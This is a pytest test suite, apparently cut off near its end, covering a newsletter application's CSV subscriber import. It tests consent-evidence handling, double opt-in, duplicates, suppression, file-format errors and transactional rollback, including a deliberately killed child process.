"""`subscribers import FILE.csv`: readers with their consent evidence, in one transaction.

Real parts only: a SQLite file per test (the `desk` fixture), real CSV files, a real
child process killed with SIGKILL in the middle of its transaction, the real CLI.
"""

from __future__ import annotations

import csv
import email
import hashlib
import json
import os
import re
import signal
import subprocess
import sys
import time
from collections import defaultdict
from collections.abc import Iterable
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from email.policy import default
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from click.testing import CliRunner

from newsletter.app import Desk, init_desk
from newsletter.cli import cli
from newsletter.errors import InputError
from newsletter.readers.access import export_csv, forget
from newsletter.readers.addresses import normalise_address
from newsletter.readers.consent import Evidence, get_policy, publish_policy
from newsletter.readers.import_rows import canonical_ip
from newsletter.readers.importing import ImportResult, Problem, import_csv
from newsletter.readers.optin import Limits, SignUp, confirm, sign_up
from newsletter.readers.subscribers import get_subscriber, record_complaint, unsubscribe
from newsletter.readers.tokens import CONFIRM, read_timed_token
from newsletter.store import tables as db

from .conftest import NOW, ROOT, SECRET, seed_readers

HEADER = "email,name,consented_at,source,ip,policy_version"
POLICY = "2026-11-01"  # the version the desk fixture publishes from privacy/
NO_EVIDENCE = "no consent evidence (consented_at and policy_version); use --pending to ask"
CONFIRM_TTL = timedelta(days=7)
TABLES = (
    db.subscribers,
    db.consent_events,
    db.suppressions,
    db.desk_keys,
    db.policy_versions,
    db.signup_attempts,
)


# --- helpers -------------------------------------------------------------------------------


def write_csv(folder: Path, *rows: str, name: str = "readers.csv", header: str = HEADER) -> Path:
    """A CSV file: the header on line 1, then each row on the next line (row 1 is line 2)."""
    path = folder / name
    path.write_text("\n".join([header, *rows]) + "\n", encoding="utf-8")
    return path


def run_import(
    desk: Desk, path: Path, *, pending: bool = False, secret: str | None = SECRET
) -> ImportResult:
    return import_csv(desk.engine, path, pending=pending, secret=secret, now=NOW)


def snapshot(engine: sa.Engine) -> dict[str, list[Any]]:
    """Every row of every table an import may touch, to show that nothing changed."""
    with engine.connect() as conn:
        return {
            t.name: [tuple(r) for r in conn.execute(sa.select(t).order_by(*t.primary_key))]
            for t in TABLES
        }


def readers(engine: sa.Engine) -> dict[str | None, tuple[str, str, str | None]]:
    """address -> (name, status, policy_version)."""
    s = db.subscribers
    with engine.connect() as conn:
        rows = conn.execute(sa.select(s.c.email, s.c.name, s.c.status, s.c.policy_version))
        return {e: (n, st, v) for e, n, st, v in rows}


def events_of(engine: sa.Engine, address: str) -> list[dict[str, Any]]:
    e = db.consent_events
    with engine.connect() as conn:
        found = get_subscriber(conn, address)
        rows = conn.execute(sa.select(e).where(e.c.subscriber_id == found.id).order_by(e.c.id))
        return [dict(row) for row in rows.mappings()]


def policy_text_sha256(engine: sa.Engine, version: str) -> str:
    """The sha256 of the stored policy text, computed here rather than read back."""
    with engine.connect() as conn:
        text = conn.execute(
            sa.select(db.policy_versions.c.text).where(db.policy_versions.c.version == version)
        ).scalar_one()
    return hashlib.sha256(text.encode("utf-8")).hexdigest()


def assert_ledger_invariant(engine: sa.Engine, kinds: Iterable[str] = ("imported", "given")) -> int:
    """Every active reader has a consent event of `kinds` naming a published policy version
    whose stored text hashes (sha256) to the event's policy_sha256. Returns the active count."""
    s, e, p = db.subscribers, db.consent_events, db.policy_versions
    with engine.connect() as conn:
        digests = {
            version: hashlib.sha256(text.encode("utf-8")).hexdigest()
            for version, text in conn.execute(sa.select(p.c.version, p.c.text))
        }
        active = conn.execute(sa.select(s.c.id, s.c.email).where(s.c.status == "active")).all()
        evidence: dict[int, list[tuple[str | None, str | None]]] = defaultdict(list)
        for sid, version, digest in conn.execute(
            sa.select(e.c.subscriber_id, e.c.policy_version, e.c.policy_sha256).where(
                e.c.kind.in_(tuple(kinds))
            )
        ):
            evidence[sid].append((version, digest))
    broken = [
        address
        for sid, address in active
        if not any(
            version is not None and digests.get(version) == digest
            for version, digest in evidence[sid]
        )
    ]
    assert broken == [], f"active readers without matching consent evidence: {broken}"
    return len(active)


def fresh_desk(desk: Desk, database_url: str) -> Desk:
    other = Desk(replace(desk.settings, database_url=database_url))
    init_desk(other, NOW)
    return other


# --- evidence, pending, duplicates, present, suppressed ------------------------------------


def test_rows_with_evidence_become_active_with_an_imported_event_keeping_it(
    desk: Desk, tmp_path: Path
) -> None:
    path = write_csv(
        tmp_path,
        "ann@example.org,Ann Lee,2026-01-15T09:30:00Z,https://example.org/signup,192.0.2.7,2026-11-01",
        "ivan@пример.рф,Иван Петров,2026-02-01T12:00:00+02:00,,,2026-11-01",
        "Joe@Example.NET,,2026-03-01,paper form at the book fair,2001:db8::1,2026-11-01",
    )
    result = run_import(desk, path)

    assert (result.rows, result.added, result.pending, result.problems) == (3, 3, 0, [])
    assert result.mails == []
    assert readers(desk.engine) == {
        "ann@example.org": ("Ann Lee", "active", POLICY),
        "ivan@пример.рф": ("Иван Петров", "active", POLICY),
        "joe@example.net": ("", "active", POLICY),
    }
    with desk.engine.connect() as conn:
        policy = get_policy(conn, POLICY)
    sha = policy_text_sha256(desk.engine, POLICY)
    expected = {
        # address: (at, ip, source, line); an offset is kept as the same instant in UTC,
        # a date alone means midnight UTC, an empty source names the file
        "ann@example.org": (
            datetime(2026, 1, 15, 9, 30, tzinfo=UTC),
            "192.0.2.7",
            "https://example.org/signup",
            2,
        ),
        "ivan@пример.рф": (datetime(2026, 2, 1, 10, 0, tzinfo=UTC), None, "import readers.csv", 3),
        "joe@example.net": (
            datetime(2026, 3, 1, tzinfo=UTC),
            "2001:db8::1",
            "paper form at the book fair",
            4,
        ),
    }
    for address, (at, ip, source, line) in expected.items():
        (event,) = events_of(desk.engine, address)
        assert event["kind"] == "imported"
        assert (event["at"], event["ip"], event["source"]) == (at, ip, source)
        assert event["policy_version"] == POLICY
        assert event["policy_sha256"] == sha == policy.sha256
        assert event["wording"] == policy.wording
        assert event["detail"] == f"readers.csv, line {line}"
    assert assert_ledger_invariant(desk.engine) == 3


def test_rows_without_evidence_are_refused_without_pending(desk: Desk, tmp_path: Path) -> None:
    path = write_csv(
        tmp_path,
        "ann@example.org,Ann,2026-01-15,form,,2026-11-01",
        "bob@example.org,Bob,,form,,",
        "cat@example.org,Cat,2026-01-15,form,,",  # a time without the policy agreed to
        "dan@example.org,Dan,,form,,2026-11-01",  # a policy without the time
    )
    result = run_import(desk, path)

    assert result.added == 1
    assert result.problems == [Problem(n, NO_EVIDENCE) for n in (3, 4, 5)]
    assert list(readers(desk.engine)) == ["ann@example.org"]


def test_pending_rows_get_a_double_opt_in_mail_each_and_confirm_to_active(
    desk: Desk, tmp_path: Path
) -> None:
    path = write_csv(
        tmp_path,
        "ann@example.org,Ann,2026-01-15,form,,2026-11-01",
        "bob@example.org,Bob,,form,,",
        "cat@example.org,Кот,2026-01-15,form,198.51.100.3,",
        "dan@пример.рф,,,,,",
    )
    result = run_import(desk, path, pending=True)

    assert (result.added, result.pending, result.problems) == (1, 3, [])
    assert readers(desk.engine) == {
        "ann@example.org": ("Ann", "active", POLICY),
        "bob@example.org": ("Bob", "pending", None),
        "cat@example.org": ("Кот", "pending", None),
        "dan@пример.рф": ("", "pending", None),
    }
    assert [(m.kind, m.email, m.name) for m in result.mails] == [
        ("confirm", "bob@example.org", "Bob"),
        ("confirm", "cat@example.org", "Кот"),
        ("confirm", "dan@пример.рф", ""),
    ]
    for mail in result.mails:
        (event,) = events_of(desk.engine, mail.email)
        assert event["kind"] == "imported" and event["policy_version"] is None
        subscriber_id, event_ref = read_timed_token(SECRET, CONFIRM, mail.token, NOW, CONFIRM_TTL)
        assert subscriber_id == mail.subscriber_id
        assert event_ref == str(event["id"])

    # the opt-in link works: the reader becomes active on the policy the mail showed
    with desk.engine.begin() as conn:
        welcome = confirm(
            conn, result.mails[0].token, Evidence(source="confirm link"), SECRET, CONFIRM_TTL, NOW
        )
    assert welcome is not None and welcome.email == "bob@example.org"
    assert readers(desk.engine)["bob@example.org"] == ("Bob", "active", POLICY)
    confirmed = events_of(desk.engine, "bob@example.org")[-1]
    assert confirmed["kind"] == "confirmed"
    assert confirmed["policy_sha256"] == policy_text_sha256(desk.engine, POLICY)


def test_pending_rows_need_the_secret_and_then_nothing_is_written(
    desk: Desk, tmp_path: Path
) -> None:
    seed_readers(desk.engine)
    before = snapshot(desk.engine)
    path = write_csv(
        tmp_path, "ann@example.org,Ann,2026-01-15,form,,2026-11-01", "bob@example.org,Bob,,,,"
    )
    with pytest.raises(InputError, match="NEWSLETTER_SECRET_KEY"):
        run_import(desk, path, pending=True, secret=None)
    assert snapshot(desk.engine) == before


def test_duplicates_merge_and_the_first_row_wins(desk: Desk, tmp_path: Path) -> None:
    path = write_csv(
        tmp_path,
        "ann@example.org,Ann First,2026-01-01T10:00:00Z,form A,192.0.2.1,2026-11-01",
        "bob@example.org,Bob,2026-01-02,form,,2026-11-01",
        "ANN@Example.ORG,Ann Second,2026-02-01T10:00:00Z,form B,192.0.2.2,2026-11-01",
        "cat@example.org,Cat Refused,never,form,,2026-11-01",  # refused: not the first row
        "cat@example.org,Cat,2026-01-03,form,,2026-11-01",
        "ann@example.org,Ann Third,2026-03-01,form C,,2026-11-01",
    )
    result = run_import(desk, path)

    assert (result.rows, result.added, result.duplicates) == (6, 3, 2)
    assert result.problems == [Problem(5, "consented_at: 'never' is not an ISO 8601 time")]
    assert readers(desk.engine) == {
        "ann@example.org": ("Ann First", "active", POLICY),
        "bob@example.org": ("Bob", "active", POLICY),
        "cat@example.org": ("Cat", "active", POLICY),
    }
    (ann,) = events_of(desk.engine, "ann@example.org")
    assert (ann["at"], ann["source"], ann["ip"], ann["detail"]) == (
        datetime(2026, 1, 1, 10, tzinfo=UTC),
        "form A",
        "192.0.2.1",
        "readers.csv, line 2",
    )
    (cat,) = events_of(desk.engine, "cat@example.org")
    assert cat["detail"] == "readers.csv, line 6"


def test_an_address_already_in_the_database_is_left_unchanged(desk: Desk, tmp_path: Path) -> None:
    seed_readers(desk.engine)  # anna@example.org, tom@example.org, noname@example.net
    with desk.engine.begin() as conn:
        tom = get_subscriber(conn, "tom@example.org")
        unsubscribe(conn, tom.id, Evidence(source="request by mail"), NOW)
    before = snapshot(desk.engine)
    path = write_csv(
        tmp_path,
        "Anna@Example.org,Someone Else,2026-05-01,other form,203.0.113.9,2026-11-01",
        "tom@example.org,Tom,2026-05-01,form,,2026-11-01",  # unsubscribed stays unsubscribed
        "noname@example.net,,,,,",  # without evidence, with --pending: no opt-in mail either
        "new@example.org,New,2026-05-01,form,,2026-11-01",
    )
    result = run_import(desk, path, pending=True)

    assert (result.added, result.pending, result.mails) == (1, 0, [])
    after = snapshot(desk.engine)
    new_id = max(r[0] for r in after["subscribers"])
    assert [r for r in after["subscribers"] if r[0] != new_id] == before["subscribers"]
    assert [r for r in after["consent_events"] if r[1] != new_id] == before["consent_events"]
    assert readers(desk.engine)["tom@example.org"][1] == "unsubscribed"


def test_rerunning_the_same_file_changes_nothing(desk: Desk, tmp_path: Path) -> None:
    path = write_csv(
        tmp_path,
        "ann@example.org,Ann,2026-01-15,form,,2026-11-01",
        "bob@example.org,Bob,,form,,",
        "not-an-address,X,2026-01-15,form,,2026-11-01",
        "ann@example.org,Ann again,2026-01-16,form,,2026-11-01",
        "cat@example.org,Cat,2026-01-15,form,192.0.2.3,2026-11-01",
    )
    first = run_import(desk, path, pending=True)
    assert (first.added, first.pending, len(first.mails)) == (2, 1, 1)
    before = snapshot(desk.engine)

    again = run_import(desk, path, pending=True)

    assert snapshot(desk.engine) == before
    assert (again.added, again.pending, again.mails) == (0, 0, [])
    assert again.problems == first.problems
    assert again.duplicates == first.duplicates == 1


@pytest.mark.parametrize("how", ["erased", "complained"])
def test_suppressed_addresses_are_never_added_again(desk: Desk, tmp_path: Path, how: str) -> None:
    seed_readers(desk.engine)
    with desk.engine.begin() as conn:
        anna = get_subscriber(conn, "anna@example.org")
        if how == "erased":
            forget(conn, anna.id, NOW)
        else:
            record_complaint(conn, anna.id, "feedback loop report", NOW)
    before = snapshot(desk.engine)
    for pending, row in (
        (False, "anna@example.org,Anna,2026-05-01,form,,2026-11-01"),
        (False, "ANNA@EXAMPLE.ORG,Anna,2026-05-01,form,,2026-11-01"),
        (True, "anna@example.org,Anna,,form,,"),
    ):
        result = run_import(desk, write_csv(tmp_path, row), pending=pending)
        assert (result.added, result.pending, result.mails, result.problems) == (0, 0, [], [])
        assert snapshot(desk.engine) == before


def test_the_report_counts_present_and_suppressed_addresses(desk: Desk, tmp_path: Path) -> None:
    seed_readers(desk.engine)
    seed_readers(desk.engine, (("erased@example.org", ""), ("complained@example.org", "")))
    with desk.engine.begin() as conn:
        forget(conn, "erased@example.org", NOW)
        complained = get_subscriber(conn, "complained@example.org")
        record_complaint(conn, complained.id, "feedback loop report", NOW)
    path = write_csv(
        tmp_path,
        *(
            f"{address},,2026-05-01,form,,2026-11-01"
            for address in (
                "anna@example.org",
                "tom@example.org",
                "erased@example.org",
                "complained@example.org",
                "new@example.org",
            )
        ),
    )
    result = run_import(desk, path)
    assert (result.added, result.already_present, result.suppressed) == (1, 2, 2)


# --- file format ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("encoding", "delimiter", "newline"),
    [
        ("utf-8-sig", ",", "\n"),
        ("utf-8", ";", "\n"),
        ("utf-8-sig", ";", "\r\n"),
        ("utf-8", ",", "\r\n"),
    ],
    ids=["bom-comma", "semicolon", "bom-semicolon-crlf", "comma-crlf"],
)
def test_bom_semicolons_and_crlf_are_read(
    desk: Desk, tmp_path: Path, encoding: str, delimiter: str, newline: str
) -> None:
    path = tmp_path / "readers.csv"
    with path.open("w", encoding=encoding, newline="") as out:
        writer = csv.writer(out, delimiter=delimiter, lineterminator=newline)
        writer.writerow(HEADER.split(","))
        writer.writerow(["ann@example.org", "Lee, Ann; Dr", "2026-01-15", "form", "", POLICY])
        writer.writerow(["broken", "X", "2026-01-15", "form", "", POLICY])
        writer.writerow(["ivan@пример.рф", "Петров; Иван", "2026-01-15", "форма", "", POLICY])
    if encoding == "utf-8-sig":
        assert path.read_bytes().startswith(b"\xef\xbb\xbf")

    result = run_import(desk, path)

    assert result.added == 2
    assert [p.line for p in result.problems] == [3]
    assert readers(desk.engine) == {
        "ann@example.org": ("Lee, Ann; Dr", "active", POLICY),
        "ivan@пример.рф": ("Петров; Иван", "active", POLICY),
    }


def test_a_header_with_a_subset_of_the_columns_in_any_order_is_read(
    desk: Desk, tmp_path: Path
) -> None:
    path = write_csv(
        tmp_path,
        "2026-11-01,ann@example.org,2026-01-15",
        header="Policy_Version, EMAIL ,consented_at",
    )
    result = run_import(desk, path)
    assert (result.added, result.problems) == (1, [])
    (event,) = events_of(desk.engine, "ann@example.org")
    assert (event["source"], event["ip"]) == ("import readers.csv", None)


@pytest.mark.parametrize("bom", [b"", b"\xef\xbb\xbf"], ids=["no-bom", "bom"])
def test_a_file_that_is_not_utf8_is_refused_naming_the_file_and_line(
    desk: Desk, tmp_path: Path, bom: bytes
) -> None:
    path = tmp_path / "readers.csv"
    path.write_bytes(
        bom
        + f"{HEADER}\nann@example.org,Ann,2026-01-15,form,,{POLICY}\n\n".encode()
        + "bob@example.org,Борис,2026-01-15,form,,2026-11-01\n".encode("cp1251")
        + f"cat@example.org,Cat,2026-01-15,form,,{POLICY}\n".encode()
    )
    before = snapshot(desk.engine)
    with pytest.raises(InputError) as refused:
        run_import(desk, path)
    assert str(refused.value).startswith(f"{path}, line 4: not UTF-8")
    assert snapshot(desk.engine) == before


@pytest.mark.parametrize(
    ("header", "message"),
    [
        ("name,consented_at,policy_version", "line 1: the header has no 'email' column"),
        ("", "line 1: the header has no 'email' column"),
        (
            "email,name,phone,consented_at",
            "line 1: unknown column(s) phone; "
            "expected email, name, consented_at, source, ip, policy_version, status",
        ),
    ],
    ids=["no-email", "empty", "unknown-column"],
)
def test_a_bad_header_is_refused_naming_line_1(
    desk: Desk, tmp_path: Path, header: str, message: str
) -> None:
    path = write_csv(tmp_path, "ann@example.org,Ann,2026-01-15,2026-11-01", header=header)
    before = snapshot(desk.engine)
    with pytest.raises(InputError) as refused:
        run_import(desk, path)
    assert str(refused.value) == f"{path}, {message}"
    assert snapshot(desk.engine) == before


BAD_ROWS = [
    (
        "not-an-address,Ann,2026-01-15,form,,2026-11-01",
        "email: 'not-an-address' is not a valid address: An email address must have an @-sign.",
    ),
    ("ann@example.org,Ann,yesterday,form,,2026-11-01", "consented_at: 'yesterday' is not an ISO 8601 time"),
    ("ann@example.org,Ann,2026-02-30,form,,2026-11-01", "consented_at: '2026-02-30' is not an ISO 8601 time"),
    ("ann@example.org,Ann,2026-11-23T10:00:01Z,form,,2026-11-01", "consented_at: 2026-11-23T10:00:01Z is in the future"),
    ("ann@example.org,Ann,2026-11-23T11:30:00+01:00,form,,2026-11-01", "consented_at: 2026-11-23T11:30:00+01:00 is in the future"),
    ("ann@example.org,Ann,2027-01-01,form,,2026-11-01", "consented_at: 2027-01-01 is in the future"),
    ("ann@example.org,Ann,2026-01-15,form,,2019-05-25", "policy_version: '2019-05-25' is not a published policy version"),
    ("ann@example.org,Ann,2026-01-15", "3 fields, the header has 6"),
    ("ann@example.org,Ann,2026-01-15,form,,2026-11-01,extra", "7 fields, the header has 6"),
    ("ann@example.org,Ann,,form,,", NO_EVIDENCE),
    ("ann@example.org,Ann\tLee,2026-01-15,form,,2026-11-01", "name: must be one line without control characters"),
    (f"ann@example.org,{'N' * 301},2026-01-15,form,,2026-11-01", "name: 301 characters, at most 300"),
    # over csv's default field limit of 131,072 characters: reported by line, not a traceback
    (f"ann@example.org,{'N' * 200_000},2026-01-15,form,,2026-11-01", "name: 200000 characters, at most 300"),
    (f'ann@example.org,Ann,2026-01-15,"{"s" * 140_000}",,2026-11-01', "source: 140000 characters, at most 500"),
]  # fmt: skip


@pytest.mark.parametrize(("row", "message"), BAD_ROWS)
def test_a_bad_row_is_reported_with_its_line_and_the_others_import(
    desk: Desk, tmp_path: Path, row: str, message: str
) -> None:
    path = write_csv(
        tmp_path,
        "first@example.org,First,2026-01-15,form,,2026-11-01",
        "",  # a blank line is skipped but still counted
        row,
        "last@example.org,Last,2026-01-15,form,,2026-11-01",
    )
    result = run_import(desk, path)

    assert result.problems == [Problem(4, message)]
    assert result.added == 2
    assert set(readers(desk.engine)) == {"first@example.org", "last@example.org"}
    assert events_of(desk.engine, "last@example.org")[0]["detail"] == "readers.csv, line 5"


def test_a_file_over_the_size_cap_is_refused_before_it_is_read(
    desk: Desk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cap = "newsletter.readers.import_rows.MAX_FILE_BYTES"
    monkeypatch.setattr(cap, 1024 * 1024)  # not 512 MB here
    path = write_csv(
        tmp_path, *[f"r{i}@example.org,R,2026-01-15,form,,2026-11-01" for i in range(30_000)]
    )
    before = snapshot(desk.engine)
    with pytest.raises(InputError) as refused:
        run_import(desk, path)
    assert str(refused.value) == f"{path}: larger than the 1 MB an import reads"
    assert snapshot(desk.engine) == before


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ("192.0.2.7", "192.0.2.7"),
        ("2001:DB8:0:0::1", "2001:db8::1"),
        ("::ffff:192.0.2.7", "::ffff:192.0.2.7"),
        ("192.0.2", "ip: '192.0.2' is not an IP address"),
        ("192.0.2.7:80", "ip: '192.0.2.7:80' is not an IP address"),
        ("2001:db8::g", "ip: '2001:db8::g' is not an IP address"),
        ("localhost", "ip: 'localhost' is not an IP address"),
    ],
)
def test_ip_addresses_are_kept_in_canonical_form_or_refused(given: str, expected: str) -> None:
    try:
        assert canonical_ip(given) == expected
    except InputError as exc:
        assert str(exc) == expected


@pytest.mark.parametrize(
    ("stamp", "at"),
    [
        ("2026-01-15T09:30:00Z", datetime(2026, 1, 15, 9, 30, tzinfo=UTC)),
        ("2026-02-01T12:00:00.25+02:00", datetime(2026, 2, 1, 10, 0, 0, 250000, tzinfo=UTC)),
        ("2026-03-01", datetime(2026, 3, 1, tzinfo=UTC)),
    ],
)
def test_consent_times_are_stored_as_sqlalchemy_stores_every_time(
    desk: Desk, tmp_path: Path, stamp: str, at: datetime
) -> None:
    run_import(desk, write_csv(tmp_path, f"ann@example.org,Ann,{stamp},form,,2026-11-01"))

    dialect = desk.engine.dialect
    stored = db.UTCDateTime().dialect_impl(dialect).bind_processor(dialect)
    assert stored is not None
    with desk.engine.connect() as conn:
        text = conn.exec_driver_sql("SELECT at FROM consent_events").scalar_one()
    assert text == stored(at)


def test_the_future_is_measured_against_now_passed_in(desk: Desk, tmp_path: Path) -> None:
    at_now = write_csv(tmp_path, "ann@example.org,Ann,2026-11-23T11:00:00+01:00,form,,2026-11-01")
    result = run_import(desk, at_now)
    assert (result.added, result.problems) == (1, [])


MULTILINE = (
    "first@example.org,First,2026-01-15,form,,2026-11-01",  # line 2
    '"two@example.org","Anna\nPetrova",2026-01-15,form,,2026-11-01',  # lines 3-4
    "not-an-address,X,2026-01-15,form,,2026-11-01",  # line 5
    '"six@example.org",Six,2026-01-15,"form\r\nsecond line",,2026-11-01',  # lines 6-7
    "last@example.org,Last,2026-01-15,form,,2026-11-01",  # line 8
)


def test_line_numbers_stay_right_after_quoted_fields_spanning_two_lines(
    desk: Desk, tmp_path: Path
) -> None:
    result = run_import(desk, write_csv(tmp_path, *MULTILINE))

    assert len(result.problems) == 3
    assert result.problems[1] == Problem(
        5, "email: 'not-an-address' is not a valid address: An email address must have an @-sign."
    )
    assert set(readers(desk.engine)) == {"first@example.org", "last@example.org"}
    assert events_of(desk.engine, "last@example.org")[0]["detail"] == "readers.csv, line 8"


def test_a_row_spanning_two_lines_is_reported_at_the_line_it_starts(
    desk: Desk, tmp_path: Path
) -> None:
    result = run_import(desk, write_csv(tmp_path, *MULTILINE))
    assert [p.line for p in result.problems] == [3, 5, 6]


def test_rows_with_the_wrong_number_of_fields_count_as_rows(desk: Desk, tmp_path: Path) -> None:
    path = write_csv(
        tmp_path,
        "ann@example.org,Ann,2026-01-15",
        "bob@example.org,Bob,2026-01-15,form,,2026-11-01,extra",
    )
    result = run_import(desk, path)
    assert (result.rows, len(result.problems)) == (2, 2)


# --- transactions --------------------------------------------------------------------------


REFUSE_LINE_40 = {
    "sqlite": [
        "CREATE TRIGGER refuse_line_40 BEFORE INSERT ON consent_events "
        "WHEN NEW.detail = 'readers.csv, line 40' "
        "BEGIN SELECT RAISE(ABORT, 'refused by the test'); END"
    ],
    "postgresql": [
        "CREATE FUNCTION refuse_line_40() RETURNS trigger LANGUAGE plpgsql "
        "AS $$ BEGIN RAISE EXCEPTION 'refused by the test'; END $$",
        "CREATE TRIGGER refuse_line_40 BEFORE INSERT ON consent_events FOR EACH ROW "
        "WHEN (NEW.detail = 'readers.csv, line 40') EXECUTE FUNCTION refuse_line_40()",
    ],
}


def fail_midway(desk: Desk, tmp_path: Path) -> Path:
    """A file of 50 readers, and a real database error (a trigger) raised while their
    consent events are written, after the readers themselves were inserted."""
    path = write_csv(
        tmp_path,
        *(f"reader{n}@example.org,Reader {n},2026-01-15,form,,2026-11-01" for n in range(50)),
    )
    with desk.engine.begin() as conn:
        for statement in REFUSE_LINE_40[conn.dialect.name]:
            conn.exec_driver_sql(statement)
    return path


def on_table(conn: sa.Connection, table: str) -> str:
    """PostgreSQL names a trigger's table when dropping it; SQLite's trigger names are global."""
    return f" ON {table}" if conn.dialect.name == "postgresql" else ""


def test_a_database_failure_midway_leaves_nothing_behind(desk: Desk, tmp_path: Path) -> None:
    seed_readers(desk.engine)
    path = fail_midway(desk, tmp_path)
    before = snapshot(desk.engine)

    with pytest.raises(sa.exc.DatabaseError, match="refused by the test"):
        run_import(desk, path)
    assert snapshot(desk.engine) == before


def test_an_import_after_a_failed_one_works_on_the_same_connection(
    desk: Desk, tmp_path: Path
) -> None:
    path = fail_midway(desk, tmp_path)
    with pytest.raises(sa.exc.DatabaseError, match="refused by the test"):
        run_import(desk, path)
    with desk.engine.begin() as conn:
        conn.exec_driver_sql("DROP TRIGGER refuse_line_40" + on_table(conn, "consent_events"))

    result = run_import(desk, path)  # the pool hands back the same connection
    assert (result.added, result.problems) == (50, [])


def test_the_connection_keeps_its_own_page_cache_after_an_import(
    desk: Desk, tmp_path: Path
) -> None:
    """An import widens SQLite's page cache for its own transaction only, also when it fails."""
    with desk.engine.connect() as conn:
        if conn.dialect.name != "sqlite":
            pytest.skip("a SQLite connection setting")
        own = conn.exec_driver_sql("PRAGMA cache_size").scalar_one()
    path = fail_midway(desk, tmp_path)
    with pytest.raises(sa.exc.DatabaseError, match="refused by the test"):
        run_import(desk, path)
    with desk.engine.connect() as conn:  # the pool hands back the same connection
        assert conn.exec_driver_sql("PRAGMA cache_size").scalar_one() == own
        conn.exec_driver_sql("DROP TRIGGER refuse_line_40")
        conn.commit()
    assert run_import(desk, path).added == 50
    with desk.engine.connect() as conn:
        assert conn.exec_driver_sql("PRAGMA cache_size").scalar_one() == own


@dataclass(frozen=True)
class BigFile:
    path: Path
    rows: int
    good: int
    problems: list[Problem]


def bad_row(n: int, row: list[str]) -> tuple[list[str], str]:
    """Row n made bad in one of six ways, with the reason the import must give."""
    kind = (n // 100) % 6
    if kind == 0:
        row[0] = f"reader{n}.example.org"
        return (
            row,
            f"email: {row[0]!r} is not a valid address: An email address must have an @-sign.",
        )
    if kind == 1:
        row[2] = "2026-02-30"
        return row, "consented_at: '2026-02-30' is not an ISO 8601 time"
    if kind == 2:
        row[2] = "2027-01-01T00:00:00Z"
        return row, "consented_at: 2027-01-01T00:00:00Z is in the future"
    if kind == 3:
        row[5] = "2025-01-01"
        return row, "policy_version: '2025-01-01' is not a published policy version"
    if kind == 4:
        return row[:5], "5 fields, the header has 6"
    row[2] = row[5] = ""
    return row, NO_EVIDENCE


def write_big_csv(path: Path, rows: int = 100_000) -> BigFile:
    """`rows` readers on 3,000 domains (some IDN, some Cyrillic names); every 100th row is bad."""
    domains = [f"mail{d}.example.org" for d in range(2_990)] + [f"почта{d}.рф" for d in range(10)]
    problems = []
    with path.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out, lineterminator="\n")
        writer.writerow(HEADER.split(","))
        for n in range(rows):
            row = [
                f"reader{n}@{domains[n % len(domains)]}",
                f"Читатель {n}" if n % 3 else f"Reader {n}, Jr.",
                f"2026-{n % 10 + 1:02d}-{n % 28 + 1:02d}T08:30:00Z",  # all before NOW
                "https://example.org/signup",
                f"192.0.2.{n % 254 + 1}",
                POLICY,
            ]
            if n % 100 == 99:
                row, reason = bad_row(n, row)
                problems.append(Problem(n + 2, reason))
            writer.writerow(row)
    return BigFile(path, rows, rows - len(problems), problems)


@pytest.fixture(scope="module")
def big_file(tmp_path_factory: pytest.TempPathFactory) -> BigFile:
    return write_big_csv(tmp_path_factory.mktemp("big") / "readers.csv")


# Run in a child process: import the file, and at the last moment before the consent events
# are written or the transaction commits, note how many readers the open transaction holds
# and wait there to be killed.
CHILD = """
import os, sys, time
from datetime import datetime
from pathlib import Path
import sqlalchemy as sa
from newsletter.store.engine import create_db_engine
from newsletter.readers.importing import import_csv

url, path, marker, now = sys.argv[1:]
engine = create_db_engine(url)

def hold(dbapi_connection):
    held = dbapi_connection.execute("SELECT count(*) FROM subscribers").fetchone()[0]
    Path(marker + ".tmp").write_text(str(held))
    os.replace(marker + ".tmp", marker)
    time.sleep(600)

@sa.event.listens_for(engine, "before_cursor_execute")
def before_events(conn, cursor, statement, parameters, context, executemany):
    if statement.lstrip().upper().startswith("INSERT INTO CONSENT_EVENTS"):
        hold(cursor.connection)

@sa.event.listens_for(engine, "commit")
def before_commit(conn):
    hold(conn.connection.dbapi_connection)

import_csv(engine, Path(path), pending=False, secret=None, now=datetime.fromisoformat(now))
"""


@pytest.mark.slow
def test_an_import_killed_midway_leaves_nothing_and_a_rerun_gives_the_exact_report(
    desk: Desk, big_file: BigFile, tmp_path: Path
) -> None:
    marker = tmp_path / "holding"
    args = [desk.settings.database_url, str(big_file.path), str(marker), NOW.isoformat()]
    errors = tmp_path / "child.err"
    with (
        errors.open("wb") as err,
        subprocess.Popen(
            [sys.executable, "-c", CHILD, *args],
            cwd=ROOT,
            env={**os.environ, "PYTHONPATH": str(ROOT)},
            stdout=subprocess.DEVNULL,
            stderr=err,
        ) as child,
    ):
        deadline = time.monotonic() + 300
        while not marker.exists():
            if child.poll() is not None:
                pytest.fail(f"the import ended before it was killed: {errors.read_text()}")
            assert time.monotonic() < deadline, "the import never reached its writes"
            time.sleep(0.02)
        os.kill(child.pid, signal.SIGKILL)
        child.wait()
    assert child.returncode == -signal.SIGKILL

    # the killed transaction had inserted every good row
    assert int(marker.read_text()) == big_file.good
    with desk.engine.connect() as conn:
        subscribers = conn.execute(sa.select(sa.func.count()).select_from(db.subscribers))
        events = conn.execute(sa.select(sa.func.count()).select_from(db.consent_events))
        left = (subscribers.scalar_one(), events.scalar_one())
    assert left[0] in (0, big_file.good), f"a partial import: {left}"
    assert left == (0, 0), "killed before COMMIT, so nothing may remain"

    result = run_import(desk, big_file.path)
    assert result.added == big_file.good
    assert result.problems == big_file.problems
    assert assert_ledger_invariant(desk.engine) == big_file.good


@pytest.mark.slow
def test_100k_rows_give_the_exact_report(desk: Desk, big_file: BigFile) -> None:
    result = run_import(desk, big_file.path)

    assert len(big_file.problems) == big_file.rows // 100
    assert (result.added, result.pending, result.duplicates) == (big_file.good, 0, 0)
    assert len(result.problems) == len(big_file.problems)
    wrong = [
        (got, want)
        for got, want in zip(result.problems, big_file.problems, strict=True)
        if got != want
    ]
    assert wrong == []
    with desk.engine.connect() as conn:
        assert (
            conn.execute(
                sa.select(sa.func.count()).where(db.subscribers.c.status == "active")
            ).scalar_one()
            == big_file.good
        )
        details = conn.execute(
